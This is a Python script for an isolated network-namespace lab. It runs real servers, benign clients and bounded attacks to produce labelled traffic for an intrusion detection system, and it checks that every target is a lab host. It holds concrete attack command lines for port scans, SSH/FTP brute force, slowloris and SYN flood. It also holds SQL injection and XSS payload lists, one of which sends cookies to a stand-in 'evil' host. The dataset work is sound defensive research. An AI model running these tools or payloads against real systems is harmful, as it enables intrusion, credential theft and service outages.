"""The deepids attack lab: real servers, benign clients and bounded attacks in network namespaces.

One command (as root) builds the network, runs it, captures it and writes labelled flows:

    sudo .venv/bin/python lab/lab.py run --minutes 30 --out data/lab --seed 7

(deepids' own environment: the lab writes the flows with `deepids flows`, which needs polars.)

Network: a switch namespace holding a bridge, and one namespace per host joined to it by a
veth pair, all in 10.77.0.0/24. The namespaces have no default route, no NAT, and no link to
any real interface; :func:`check_target` refuses any target that is not a lab host's address,
and is called before every tool starts. Everything the lab starts is killed, and its
namespaces, user and temporary files removed, on normal exit, on error and on Ctrl-C/SIGTERM.

Hosts: ``srv`` 10.77.0.10 (nginx :80, OpenSSH :22, vsftpd :21, dnsmasq :53), benign clients
``c1``-``c3`` 10.77.0.21-23, and ``att`` 10.77.0.66, which browses benignly between attacks.
The first ``--benign-fraction`` of the run is benign only (time to train on); then the
attacks of :data:`ATTACKS` run one after the other with benign gaps, each bounded in rate,
count and time (the tools' own limits plus a wall-clock ``timeout``). With
``--benign-mistakes``, benign users also mistype SSH/FTP passwords, request services that are
down (closed ports: a reset) and send search forms, as users of a real network do.

Outputs in ``--out``: ``lab.pcap`` (tcpdump on the bridge, 128-byte snap length: headers
only), ``lab_flows.parquet`` (GeneratedLabelledFlows layout: ``Flow ID``, ``Source IP``, ...
``Timestamp``, the 76 features, ``Label``), ``manifest.json`` (tool versions, planned and
actual schedule, seed, counts) and ``lab_slice.pcap.gz`` (a small slice around one attack).

Labels come from the schedule: a flow from or to the attacker whose first packet falls
within an attack's actual span (plus ``LABEL_MARGIN_S`` after it) carries that attack's name;
every other flow is ``BENIGN``. The attacker's own benign activity pauses during attacks.
"""

from __future__ import annotations

import argparse
import atexit
import gzip
import ipaddress
import json
import os
import random
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse
from dataclasses import asdict, dataclass, field
from datetime import datetime, timezone
from pathlib import Path

PREFIX = "dlab"                          # names of namespaces and links
NET = ipaddress.ip_network("10.77.0.0/24")
HOSTS = {"srv": "10.77.0.10", "c1": "10.77.0.21", "c2": "10.77.0.22", "c3": "10.77.0.23", "att": "10.77.0.66"}
SERVER = HOSTS["srv"]
ATTACKER = HOSTS["att"]
LAB_USER = "deepidslab"
LABEL_MARGIN_S = 3.0
SNAPLEN = 128
TOOLS = ("ip", "tcpdump", "nginx", "sshd", "vsftpd", "dnsmasq", "curl", "dig", "sshpass", "ssh", "nmap",
         "hping3", "hydra", "slowhttptest", "ssh-keygen", "useradd", "userdel", "chpasswd")


class LabError(RuntimeError):
    pass


def check_target(addr: str) -> str:
    """``addr`` if it is a lab host's address; raises LabError for anything else."""
    try:
        ip = ipaddress.ip_address(addr)
    except ValueError:
        raise LabError(f"target {addr!r} is not an IP address") from None
    if ip not in NET or str(ip) not in HOSTS.values():
        raise LabError(f"target {addr} is not a lab host ({', '.join(HOSTS.values())}); refused")
    return str(ip)


def missing_tools() -> list[str]:
    return [t for t in TOOLS if shutil.which(t) is None]


# --------------------------------------------------------------------------------------
# attacks: argv builders (target checked first), bounds, labels
# --------------------------------------------------------------------------------------

@dataclass
class Attack:
    name: str            # label
    kind: str            # short id
    seconds: float       # wall-clock bound (timeout)
    bound: str           # the rate/count bound in words, for the manifest


WEB_SCRIPT = r"""
import random, sys, time, urllib.parse, urllib.request
target, kind, seconds, rate = sys.argv[1], sys.argv[2], float(sys.argv[3]), float(sys.argv[4])
sqli = ["' OR '1'='1", "1; DROP TABLE users--", "' UNION SELECT username, password FROM users--",
        "admin'--", "1' AND SLEEP(1)--", "' OR 1=1 LIMIT 1 OFFSET 1--", "1' ORDER BY 3--"]
xss = ["<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>",
       "<svg/onload=alert('x')>", "\"><script>fetch('//evil/'+document.cookie)</script>",
       "<body onload=alert(1)>", "javascript:alert(1)"]
words = sqli if kind == "sqli" else xss
paths = ["/search", "/login", "/product", "/comment", "/page1.html"]
end = time.time() + seconds
n = 0
while time.time() < end and n < int(seconds * rate):
    q = urllib.parse.urlencode({random.choice(["q", "id", "user", "text"]): random.choice(words)})
    try:
        urllib.request.urlopen(f"http://{target}{random.choice(paths)}?{q}", timeout=3).read()
    except Exception:
        pass
    n += 1
    time.sleep(random.uniform(0.5, 1.5) / rate)
print(n, "requests")
"""


def attack_argv(kind: str, target: str, seconds: float, work: Path) -> list[str]:
    """The command line of one attack, bounded in rate, count and time."""
    t = check_target(target)
    wl = str(work / "passwords.txt")
    if kind == "portscan-syn":
        return ["nmap", "-n", "-Pn", "-sS", "-p", "1-2000", "--max-rate", "300", "--max-retries", "1",
                "--host-timeout", f"{int(seconds)}s", t]
    if kind == "portscan-connect":
        return ["nmap", "-n", "-Pn", "-sT", "-p", "1-1000", "--max-rate", "100", "--max-retries", "1",
                "--host-timeout", f"{int(seconds)}s", t]
    if kind == "ssh-bruteforce":
        return ["hydra", "-l", LAB_USER, "-P", wl, "-t", "2", "-W", "1", "-f", "-I", f"ssh://{t}"]
    if kind == "ftp-bruteforce":
        return ["hydra", "-l", LAB_USER, "-P", wl, "-t", "2", "-W", "1", "-f", "-I", f"ftp://{t}"]
    if kind == "dos-slowloris":
        return ["slowhttptest", "-H", "-c", "300", "-r", "50", "-i", "10", "-l", str(int(seconds)),
                "-u", f"http://{t}/page1.html", "-p", "3"]
    if kind == "dos-synflood":
        count = int(seconds * 300)
        return ["hping3", "-q", "-S", "-p", "80", "-i", "u3333", "-c", str(count), t]
    if kind in ("web-sqli", "web-xss"):
        return [sys.executable, "-c", WEB_SCRIPT, t, kind.split("-")[1], str(max(seconds - 3, 1)), "2"]
    raise LabError(f"unknown attack {kind!r}")


ATTACKS: tuple[Attack, ...] = (
    Attack("PortScan", "portscan-syn", 60, "nmap -sS, ports 1-2000, --max-rate 300 packets/s, 1 retry"),
    Attack("SSH-BruteForce", "ssh-bruteforce", 90, "hydra, 2 tasks, 80-word list, stops at the first hit"),
    Attack("DoS slowloris", "dos-slowloris", 60, "slowhttptest -H, 300 connections at 50/s, 60 s"),
    Attack("Web Attack - Sql Injection", "web-sqli", 60, "2 requests/s, 60 s"),
    Attack("FTP-BruteForce", "ftp-bruteforce", 90, "hydra, 2 tasks, 80-word list, stops at the first hit"),
    Attack("DoS SYN flood", "dos-synflood", 40, "hping3 -S, 300 packets/s, 12,000 packets"),
    Attack("Web Attack - XSS", "web-xss", 60, "2 requests/s, 60 s"),
    Attack("PortScan", "portscan-connect", 60, "nmap -sT, ports 1-1000, --max-rate 100 packets/s, 1 retry"),
)


# --------------------------------------------------------------------------------------
# the lab
# --------------------------------------------------------------------------------------

def run(argv: list[str], check: bool = True, **kw) -> subprocess.CompletedProcess:
    proc = subprocess.run(argv, capture_output=True, text=True, **kw)
    if check and proc.returncode != 0:
        raise LabError(f"{' '.join(argv)} failed ({proc.returncode}): {proc.stderr.strip()[-300:]}")
    return proc


def ns(host: str) -> str:
    return f"{PREFIX}-{host}"


@dataclass
class Event:
    kind: str
    label: str
    planned_start_s: float
    bound: str
    argv: list[str] = field(default_factory=list)
    start: float | None = None      # epoch seconds
    end: float | None = None
    returncode: int | None = None
    output_tail: str = ""


class Lab:
    def __init__(self, out: Path, minutes: float, seed: int, benign_fraction: float = 0.3,
                 attacks: tuple[Attack, ...] = ATTACKS, clients: tuple[str, ...] = ("c1", "c2", "c3"),
                 log=print, sessions_per_client: int = 1, benign_mistakes: bool = False):
        self.out = Path(out)
        self.seconds = minutes * 60.0
        self.seed = seed
        self.rng = random.Random(seed)
        self.benign_fraction = benign_fraction
        self.attacks = attacks
        self.clients = clients
        self.sessions_per_client = sessions_per_client     # parallel benign users per client host
        # benign users also make a real network's small failures: a mistyped password, a service
        # that is down, a search form; single attack flows then have benign look-alikes
        self.benign_mistakes = benign_mistakes
        self.log = log
        self.work = Path(tempfile.mkdtemp(prefix="deepids-lab-"))
        self.procs: list[subprocess.Popen] = []
        self.stop = threading.Event()
        self.attacking = threading.Event()
        self.events: list[Event] = []
        self.benign_counts: dict[str, int] = {}
        self.password = f"lab-{self.rng.randrange(10**6):06d}"
        self.user_created = False
        self.torn_down = False
        self.t0 = 0.0

    # ---------------------------------------------------------------- network
    def build(self) -> None:
        if os.geteuid() != 0:
            raise LabError("the lab needs root (network namespaces)")
        gone = missing_tools()
        if gone:
            raise LabError(f"missing tools: {', '.join(gone)} (apt-get install nmap hping3 slowhttptest hydra "
                           f"tcpdump nginx-light openssh-server openssh-client vsftpd dnsutils dnsmasq-base curl sshpass)")
        existing = run(["ip", "netns", "list"]).stdout
        if any(line.split()[0].startswith(PREFIX + "-") for line in existing.splitlines() if line.strip()):
            raise LabError(f"namespaces named {PREFIX}-* already exist (another lab running?); "
                           f"remove them with: python3 lab/lab.py teardown")
        sw = ns("sw")
        run(["ip", "netns", "add", sw])
        run(["ip", "-n", sw, "link", "set", "lo", "up"])
        run(["ip", "-n", sw, "link", "add", "br0", "type", "bridge"])
        run(["ip", "-n", sw, "link", "set", "br0", "up"])
        for host, addr in HOSTS.items():
            n = ns(host)
            run(["ip", "netns", "add", n])
            run(["ip", "-n", n, "link", "set", "lo", "up"])
            # the pair is created inside the host namespace: it never exists in the root namespace
            run(["ip", "-n", n, "link", "add", "eth0", "type", "veth", "peer", "name", f"p-{host}", "netns", sw])
            run(["ip", "-n", n, "addr", "add", f"{addr}/24", "dev", "eth0"])
            run(["ip", "-n", n, "link", "set", "eth0", "up"])
            run(["ip", "-n", sw, "link", "set", f"p-{host}", "master", "br0"])
            run(["ip", "-n", sw, "link", "set", f"p-{host}", "up"])
        self.verify_isolation()

    def verify_isolation(self) -> None:
        """No default route, no address outside the lab net, no interface but lo/eth0 in any host."""
        for host in HOSTS:
            n = ns(host)
            if run(["ip", "-n", n, "route", "show", "default"]).stdout.strip():
                raise LabError(f"{n} has a default route")
            links = json.loads(run(["ip", "-n", n, "-j", "link", "show"]).stdout)
            names = sorted(link["ifname"] for link in links)
            if names != ["eth0", "lo"]:
                raise LabError(f"{n} has unexpected interfaces {names}")
            for a in json.loads(run(["ip", "-n", n, "-j", "addr", "show"]).stdout):
                for info in a.get("addr_info", []):
                    if info["family"] == "inet" and info["local"] != "127.0.0.1" and \
                            ipaddress.ip_address(info["local"]) not in NET:
                        raise LabError(f"{n} has address {info['local']} outside {NET}")

    def spawn(self, host: str, argv: list[str], name: str) -> subprocess.Popen:
        log = open(self.work / f"{name}.log", "ab")
        p = subprocess.Popen(["ip", "netns", "exec", ns(host), *argv], stdout=log, stderr=subprocess.STDOUT,
                             stdin=subprocess.DEVNULL, start_new_session=True, cwd=self.work)
        self.procs.append(p)
        return p

    def exec(self, host: str, argv: list[str], timeout: float) -> subprocess.CompletedProcess:
        """Run a command in a host namespace, killed (its whole group) after ``timeout`` seconds."""
        p = subprocess.Popen(["ip", "netns", "exec", ns(host), *argv], stdout=subprocess.PIPE,
                             stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL, start_new_session=True,
                             cwd=self.work)
        self.procs.append(p)
        try:
            out, _ = p.communicate(timeout=timeout)
        except subprocess.TimeoutExpired:
            _kill(p)
            out, _ = p.communicate()
        finally:
            if p in self.procs:
                self.procs.remove(p)
        return subprocess.CompletedProcess(p.args, p.returncode, out.decode("utf-8", "replace") if out else "", "")

    # ---------------------------------------------------------------- servers
    def start_servers(self) -> None:
        w = self.work
        www = w / "www"
        www.mkdir()
        rnd = random.Random(self.seed + 1)
        for i in range(1, 21):
            body = "".join(f"<p>lab page {i} paragraph {k} " + "lorem ipsum " * rnd.randint(5, 60) + "</p>\n"
                           for k in range(rnd.randint(2, 30)))
            (www / f"page{i}.html").write_text(f"<html><body><h1>page {i}</h1>{body}</body></html>")
            (www / f"img{i}.bin").write_bytes(os.urandom(rnd.randint(2_000, 200_000)))
        (www / "index.html").write_text("<html><body>" + "".join(f'<a href="page{i}.html">{i}</a>' for i in range(1, 21))
                                        + "</body></html>")
        # the lab user (password login for SSH and FTP), removed at teardown
        home = w / "home"
        (home / "files").mkdir(parents=True)
        for i in range(1, 9):
            (home / "files" / f"report{i}.bin").write_bytes(os.urandom(rnd.randint(10_000, 2_000_000)))
        if run(["id", LAB_USER], check=False).returncode == 0:
            raise LabError(f"user {LAB_USER} already exists; remove it first (python3 lab/lab.py teardown)")
        run(["useradd", "-M", "-d", str(home), "-s", "/bin/bash", LAB_USER])
        self.user_created = True
        run(["chpasswd"], input=f"{LAB_USER}:{self.password}\n")
        run(["chown", "-R", LAB_USER, str(home)])
        os.chmod(w, 0o755)
        # word list: 79 wrong words, then the password (hydra stops at the hit)
        words = [f"{rnd.choice(['summer', 'admin', 'qwerty', 'pass', 'welcome', 'dragon', 'letmein'])}{rnd.randint(0, 9999)}"
                 for _ in range(79)]
        (w / "passwords.txt").write_text("\n".join(words + [self.password]) + "\n")

        (w / "nginx.conf").write_text(f"""
daemon off; worker_processes 1; pid {w}/nginx.pid; error_log {w}/nginx-error.log;
events {{ worker_connections 1024; }}
http {{ access_log {w}/nginx-access.log; client_body_temp_path {w}/nginx-body;
  keepalive_timeout 15; types {{ text/html html; application/octet-stream bin; }}
  server {{ listen {SERVER}:80; root {www}; location / {{ try_files $uri $uri/ =404; }} }} }}
""")
        self.spawn("srv", ["nginx", "-c", str(w / "nginx.conf")], "nginx")
        run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(w / "hostkey")])
        Path("/run/sshd").mkdir(exist_ok=True)
        (w / "sshd_config").write_text(f"""ListenAddress {SERVER}
Port 22
HostKey {w}/hostkey
PidFile {w}/sshd.pid
PasswordAuthentication yes
KbdInteractiveAuthentication no
UsePAM yes
PermitRootLogin no
AllowUsers {LAB_USER}
MaxStartups 50:30:100
MaxAuthTries 6
LoginGraceTime 20
""")
        self.spawn("srv", ["/usr/sbin/sshd", "-D", "-e", "-f", str(w / "sshd_config")], "sshd")
        Path("/var/run/vsftpd/empty").mkdir(parents=True, exist_ok=True)
        (w / "vsftpd.conf").write_text(f"""listen=YES
listen_ipv6=NO
listen_address={SERVER}
background=NO
anonymous_enable=NO
local_enable=YES
write_enable=NO
pasv_enable=YES
pasv_min_port=30000
pasv_max_port=30100
pasv_address={SERVER}
secure_chroot_dir=/var/run/vsftpd/empty
pam_service_name=vsftpd
seccomp_sandbox=NO
xferlog_enable=NO
""")
        self.spawn("srv", ["vsftpd", str(w / "vsftpd.conf")], "vsftpd")
        self.spawn("srv", ["dnsmasq", "--no-daemon", "--no-resolv", "--no-hosts", "--bind-interfaces",
                           f"--listen-address={SERVER}", "--user=root", f"--pid-file={w}/dnsmasq.pid",
                           "--address=/intranet.lab/10.77.0.10", "--address=/files.lab/10.77.0.10",
                           "--address=/wiki.lab/10.77.0.10", "--address=/mail.lab/10.77.0.10"], "dnsmasq")
        deadline = time.time() + 15
        while time.time() < deadline:
            r = self.exec("c1", ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", f"http://{SERVER}/index.html"], 5)
            s = self.exec("c1", ["bash", "-c", f"exec 3<>/dev/tcp/{SERVER}/22 && head -c 4 <&3"], 5)
            f = self.exec("c1", ["bash", "-c", f"exec 3<>/dev/tcp/{SERVER}/21 && head -c 3 <&3"], 5)
            if r.stdout.strip() == "200" and s.stdout.startswith("SSH") and f.stdout.startswith("220"):
                return
            time.sleep(0.5)
        raise LabError(f"servers did not come up (see logs in {w})")

    # ---------------------------------------------------------------- capture
    def start_capture(self) -> None:
        self.pcap = self.work / "lab.pcap"
        self.tcpdump = self.spawn("sw", ["tcpdump", "-i", "br0", "-n", "-s", str(SNAPLEN), "-U", "-w", str(self.pcap)],
                                  "tcpdump")
        time.sleep(1.5)

    # ---------------------------------------------------------------- benign clients
    def benign_client(self, host: str, seed: int) -> None:
        rng = random.Random(seed)
        names = ["intranet.lab", "files.lab", "wiki.lab", "mail.lab"]
        ssh = ["sshpass", "-p", self.password, "ssh", "-o", "StrictHostKeyChecking=no", "-o",
               "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR", f"{LAB_USER}@{check_target(SERVER)}"]
        while not self.stop.is_set():
            if host == "att" and self.attacking.is_set():
                self.stop.wait(1.0)
                continue
            kinds, weights = ["web", "ssh", "ftp", "dns"], [6, 2, 1.5, 1.5]
            if self.benign_mistakes:
                kinds, weights = kinds + ["search", "typo", "closed"], weights + [1.5, 1.0, 0.7]
            kind = rng.choices(kinds, weights=weights)[0]
            try:
                if kind == "web":
                    if rng.random() < 0.5:
                        self.exec(host, ["dig", "+short", "+tries=1", "+time=2", f"@{SERVER}", rng.choice(names)], 5)
                    urls = [f"http://{SERVER}/page{rng.randint(1, 20)}.html"]
                    urls += [f"http://{SERVER}/img{rng.randint(1, 20)}.bin" for _ in range(rng.randint(0, 4))]
                    self.exec(host, ["curl", "-s", "-o", "/dev/null", "--max-time", "20", *urls], 25)
                elif kind == "ssh":
                    cmd = "; ".join(rng.sample(["ls -la", "uptime", "df -h", "cat /etc/hostname", "ls files",
                                                "date", "id", "ps aux | head -5"], 3))
                    self.exec(host, [*ssh, f"{cmd}; sleep {rng.uniform(1, 15):.1f}; ls files"], 45)
                elif kind == "ftp":
                    f = f"report{rng.randint(1, 8)}.bin"
                    self.exec(host, ["curl", "-s", "-o", "/dev/null", "--max-time", "30",
                                     f"ftp://{LAB_USER}:{self.password}@{SERVER}/files/{f}"], 35)
                elif kind == "dns":
                    for _ in range(rng.randint(1, 3)):
                        self.exec(host, ["dig", "+short", "+tries=1", "+time=2", f"@{SERVER}", rng.choice(names)], 5)
                elif kind == "search":           # a form: query strings on pages the server may not have
                    words = ["quarterly report", "vpn setup", "holiday rota", "printer", "invoice 2024",
                             "o'brien", "a&b <draft>", "budget; q3"]
                    path = rng.choice(["/search", "/login", "/product", "/comment", "/page1.html"])
                    query = urllib.parse.urlencode({rng.choice(["q", "id", "user", "text"]): rng.choice(words)})
                    self.exec(host, ["curl", "-s", "-o", "/dev/null", "--max-time", "10",
                                     f"http://{SERVER}{path}?{query}"], 15)
                elif kind == "typo":             # a mistyped password, then (mostly) the right one
                    wrong = self.password[:-1] + rng.choice("xyz")
                    if rng.random() < 0.5:
                        self.exec(host, ["sshpass", "-p", wrong, *ssh[3:], "true"], 15)
                        if rng.random() < 0.8:
                            self.exec(host, [*ssh, "true"], 15)
                    else:
                        f = f"ftp://{LAB_USER}:{wrong}@{SERVER}/files/report1.bin"
                        self.exec(host, ["curl", "-s", "-o", "/dev/null", "--max-time", "10", f], 15)
                else:                            # "closed": a service that is down (the port answers RST)
                    port = rng.choice([8080, 8443, 3306, 5432, 3389, 6379])
                    self.exec(host, ["curl", "-s", "-o", "/dev/null", "--max-time", "3",
                                     f"http://{SERVER}:{port}/"], 6)
            except Exception as exc:  # noqa: BLE001 - a client failure must not end the lab
                self.log(f"[{host}] {kind} failed: {exc}")
            self.benign_counts[kind] = self.benign_counts.get(kind, 0) + 1
            # human-like think time: mostly seconds, sometimes a long pause
            think = rng.lognormvariate(1.8, 0.9) if rng.random() < 0.9 else rng.uniform(30, 90)
            self.stop.wait(min(think, 120))

    # ---------------------------------------------------------------- attacks
    def plan(self) -> list[Event]:
        start = self.seconds * self.benign_fraction
        budget = self.seconds - start - 10
        total = sum(a.seconds for a in self.attacks)
        gap = max(5.0, (budget - total) / max(len(self.attacks), 1))
        events, t = [], start
        for a in self.attacks:
            events.append(Event(a.kind, a.name, round(t, 1), a.bound))
            t += a.seconds + gap
        return events

    def run_attacks(self, events: list[Event]) -> None:
        attacks = {a.kind: a for a in self.attacks}
        for ev in events:
            while not self.stop.is_set() and time.time() - self.t0 < ev.planned_start_s:
                self.stop.wait(0.5)
            if self.stop.is_set():
                return
            a = attacks[ev.kind]
            ev.argv = attack_argv(ev.kind, SERVER, a.seconds, self.work)
            check_target(SERVER)
            self.attacking.set()
            time.sleep(2.0)                            # the attacker's benign sessions wind down
            shown = ev.argv if ev.argv[0] != sys.executable else [ev.argv[0], "-c", "WEB_SCRIPT", *ev.argv[3:]]
            self.log(f"attack {ev.label} ({ev.kind}) starts: {' '.join(shown)}")
            ev.start = time.time()
            r = self.exec("att", ["timeout", "-k", "5", str(int(a.seconds)), *ev.argv], a.seconds + 15)
            ev.end = time.time()
            ev.returncode = r.returncode
            ev.output_tail = r.stdout[-400:]
            time.sleep(LABEL_MARGIN_S)
            self.attacking.clear()
            self.log(f"attack {ev.label} ended after {ev.end - ev.start:.0f}s (rc {r.returncode})")

    # ---------------------------------------------------------------- the run
    def go(self) -> dict:
        self.out.mkdir(parents=True, exist_ok=True)
        self.build()
        self.start_servers()
        self.start_capture()
        self.t0 = time.time()
        events = self.plan()
        self.events = events
        users = [h for h in self.clients for _ in range(self.sessions_per_client)] + ["att"]
        threads = [threading.Thread(target=self.benign_client, args=(h, self.seed * 100 + i), daemon=True)
                   for i, h in enumerate(users)]
        for th in threads:
            th.start()
        attacker = threading.Thread(target=self.run_attacks, args=(events,), daemon=True)
        attacker.start()
        while time.time() - self.t0 < self.seconds and not self.stop.is_set():
            time.sleep(1.0)
            if not attacker.is_alive() and all(e.end for e in events) and time.time() - self.t0 >= self.seconds:
                break
        self.stop.set()
        attacker.join(timeout=120)
        for th in threads:
            th.join(timeout=60)
        t_end = time.time()
        time.sleep(1.0)
        self.tcpdump.send_signal(signal.SIGINT)
        try:
            self.tcpdump.wait(timeout=15)
        except subprocess.TimeoutExpired:
            _kill(self.tcpdump)
        versions = tool_versions()
        self.teardown()
        return self.write_outputs(t_end, versions)

    def write_outputs(self, t_end: float, versions: dict) -> dict:
        sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "src"))
        import polars as pl

        from deepids.io.flowmeter import capture_flows, to_cic_layout

        pcap_out = self.out / "lab.pcap"
        shutil.copyfile(self.pcap, pcap_out)
        flows, meter = capture_flows(pcap_out)
        flows = label_flows(flows, self.events)
        cic = to_cic_layout(flows)
        cic.write_parquet(self.out / "lab_flows.parquet", compression="zstd", compression_level=19)
        slice_info = write_slice(pcap_out, self.out / "lab_slice.pcap.gz", self.events)
        labels = cic["Label"].value_counts().sort("count", descending=True)
        manifest = {
            "what": "deepids attack lab run (lab/lab.py): real servers, clients and attack tools in network namespaces",
            "command": " ".join(sys.argv),
            "seed": self.seed,
            "minutes": self.seconds / 60,
            "benign_only_until_s": self.seconds * self.benign_fraction,
            "started_utc": _utc(self.t0), "ended_utc": _utc(t_end),
            "hosts": HOSTS, "attacker": ATTACKER, "network": str(NET),
            "isolation": "namespaces without default route or NAT, no link to real interfaces; targets checked",
            "tools": versions,
            "schedule": [{**asdict(e), "start_utc": _utc(e.start) if e.start else None,
                          "end_utc": _utc(e.end) if e.end else None} for e in self.events],
            "label_rule": f"flow from/to {ATTACKER} whose first packet lies in [start, end + {LABEL_MARGIN_S}s] "
                          f"of an attack -> its label; everything else BENIGN",
            "benign_sessions": self.benign_counts,
            "users_per_client": self.sessions_per_client,
            "benign_mistakes": self.benign_mistakes,
            "capture": meter.to_dict(),
            "flows": cic.height,
            "labels": dict(zip(labels["Label"].to_list(), labels["count"].to_list())),
            "slice": slice_info,
            "files": {p.name: p.stat().st_size for p in sorted(self.out.iterdir()) if p.is_file()},
        }
        (self.out / "manifest.json").write_text(json.dumps(manifest, indent=2, default=str) + "\n")
        manifest["files"] = {p.name: p.stat().st_size for p in sorted(self.out.iterdir()) if p.is_file()}
        (self.out / "manifest.json").write_text(json.dumps(manifest, indent=2, default=str) + "\n")
        del pl
        return manifest

    def teardown(self) -> None:
        if self.torn_down:
            return
        self.torn_down = True
        self.stop.set()
        for p in list(self.procs):
            _kill(p)
        self.procs.clear()
        teardown_network()
        if self.user_created:
            run(["userdel", LAB_USER], check=False)
            self.user_created = False


def _kill(p: subprocess.Popen) -> None:
    """End one process we started and its group (it was started in a new session)."""
    if p.poll() is not None:
        return
    try:
        os.killpg(p.pid, signal.SIGTERM)
        p.wait(timeout=5)
    except (ProcessLookupError, PermissionError):
        return
    except subprocess.TimeoutExpired:
        try:
            os.killpg(p.pid, signal.SIGKILL)
            p.wait(timeout=5)
        except (ProcessLookupError, subprocess.TimeoutExpired):
            pass


def teardown_network() -> list[str]:
    """Kill what still runs in the lab namespaces (by pid) and delete them. Returns their names."""
    out = subprocess.run(["ip", "netns", "list"], capture_output=True, text=True).stdout
    names = [line.split()[0] for line in out.splitlines() if line.strip() and line.split()[0].startswith(PREFIX + "-")]
    for n in names:
        pids = subprocess.run(["ip", "netns", "pids", n], capture_output=True, text=True).stdout.split()
        for pid in pids:
            try:
                os.kill(int(pid), signal.SIGKILL)
            except (ProcessLookupError, ValueError):
                pass
        subprocess.run(["ip", "netns", "del", n], capture_output=True)
    return names


def label_flows(flows, events: list[Event]):
    """Add ``label``: an attack's name for flows from/to the attacker starting within its span."""
    import polars as pl

    label = pl.lit("BENIGN")
    from_att = (pl.col("src_ip") == ATTACKER) | (pl.col("dst_ip") == ATTACKER)
    for e in events:
        if e.start is None or e.end is None:
            continue
        lo = datetime.fromtimestamp(e.start - 0.5, timezone.utc).replace(tzinfo=None)
        hi = datetime.fromtimestamp(e.end + LABEL_MARGIN_S, timezone.utc).replace(tzinfo=None)
        label = pl.when(from_att & (pl.col("timestamp") >= lo) & (pl.col("timestamp") <= hi)).then(pl.lit(e.label)) \
            .otherwise(label)
    return flows.with_columns(label.alias("label"))


def write_slice(pcap: Path, out: Path, events: list[Event], max_packets: int = 12_000) -> dict:
    """A small gzip pcap slice: packets from 20 s before the first attack on, up to max_packets."""
    import dpkt

    first = next((e for e in events if e.start), None)
    t_from = (first.start - 20) if first else 0
    n = 0
    with open(pcap, "rb") as fh, gzip.open(out, "wb") as fo:
        r = dpkt.pcap.Reader(fh)
        w = dpkt.pcap.Writer(fo, snaplen=SNAPLEN, linktype=r.datalink())
        for ts, buf in r:
            if ts < t_from:
                continue
            w.writepkt(buf, ts=ts)
            n += 1
            if n >= max_packets:
                break
    return {"file": out.name, "packets": n, "from_utc": _utc(t_from),
            "note": "the first packets from 20 s before the first attack (benign, then the attack)"}


def tool_versions() -> dict:
    def first(argv, pick=0):
        try:
            p = subprocess.run(argv, capture_output=True, text=True, timeout=10)
            lines = [ln for ln in (p.stdout + p.stderr).splitlines() if ln.strip()]
            return lines[pick].strip() if lines else None
        except (OSError, subprocess.TimeoutExpired):
            return None

    def deb(pkg):
        try:
            return subprocess.run(["dpkg-query", "-W", "-f", "${Version}", pkg], capture_output=True, text=True,
                                  timeout=10).stdout.strip() or None
        except OSError:
            return None

    pkgs = ["nmap", "hping3", "slowhttptest", "hydra", "tcpdump", "nginx-light", "nginx-core", "nginx",
            "openssh-server", "vsftpd", "dnsutils", "bind9-dnsutils", "dnsmasq-base", "curl", "sshpass", "iproute2"]
    out = {f"deb:{p}": v for p in pkgs if (v := deb(p))}
    out["nmap"] = first(["nmap", "--version"])
    out["tcpdump"] = first(["tcpdump", "--version"])
    out["python"] = sys.version.split()[0]
    out["kernel"] = os.uname().release
    return out


def _utc(t: float | None) -> str | None:
    return None if t is None else datetime.fromtimestamp(t, timezone.utc).isoformat()


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(prog="lab.py", description="deepids attack lab (run as root)")
    sub = ap.add_subparsers(dest="cmd", required=True)
    r = sub.add_parser("run", help="build, run, capture, label, tear down")
    r.add_argument("--minutes", type=float, default=30.0)
    r.add_argument("--out", type=Path, default=Path("data/lab"))
    r.add_argument("--seed", type=int, default=7)
    r.add_argument("--benign-fraction", type=float, default=0.3)
    r.add_argument("--attacks", default=None, help="comma-separated attack kinds (default: all)")
    r.add_argument("--users-per-client", type=int, default=1, help="parallel benign users on each client host")
    r.add_argument("--benign-mistakes", action="store_true",
                   help="benign users also mistype passwords, hit services that are down and use search forms")
    sub.add_parser("teardown", help="remove leftovers of an interrupted lab")
    sub.add_parser("check", help="say whether the lab can run here")
    args = ap.parse_args(argv)
    if args.cmd == "teardown":
        print("removed:", ", ".join(teardown_network()) or "nothing")
        if subprocess.run(["id", LAB_USER], capture_output=True).returncode == 0:
            subprocess.run(["userdel", LAB_USER])
            print("removed user", LAB_USER)
        return 0
    if args.cmd == "check":
        gone = missing_tools()
        print("root:", os.geteuid() == 0, "missing tools:", gone or "none")
        return 0 if os.geteuid() == 0 and not gone else 1
    attacks = ATTACKS
    if args.attacks:
        want = args.attacks.split(",")
        attacks = tuple(a for a in ATTACKS if a.kind in want)
    lab = Lab(args.out, args.minutes, args.seed, args.benign_fraction, attacks,
              log=lambda m: print(f"[{datetime.now().strftime('%H:%M:%S')}] {m}", flush=True),
              sessions_per_client=args.users_per_client, benign_mistakes=args.benign_mistakes)

    def on_signal(signum, frame):
        raise KeyboardInterrupt

    signal.signal(signal.SIGTERM, on_signal)
    signal.signal(signal.SIGINT, on_signal)      # also when started with SIGINT ignored (background jobs)
    atexit.register(lab.teardown)
    try:
        manifest = lab.go()
    except KeyboardInterrupt:
        print("interrupted: tearing down", file=sys.stderr)
        return 130
    except LabError as exc:
        print(f"lab: error: {exc}", file=sys.stderr)
        return 2
    finally:
        lab.teardown()
        shutil.rmtree(lab.work, ignore_errors=True)
    print(json.dumps({k: manifest[k] for k in ("flows", "labels", "capture")}, indent=2))
    return 0


if __name__ == "__main__":
    sys.exit(main())
